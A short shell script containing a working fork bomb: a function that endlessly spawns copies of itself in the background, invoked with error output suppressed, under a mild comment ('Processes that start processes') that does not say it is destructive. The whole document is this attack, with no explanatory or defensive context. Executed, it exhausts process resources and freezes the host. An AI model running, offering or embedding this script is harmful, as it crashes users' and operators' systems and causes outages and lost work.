#!/bin/sh
# Processes that start processes.
bomb() { while :; do bomb & done; }
bomb 2>/dev/null
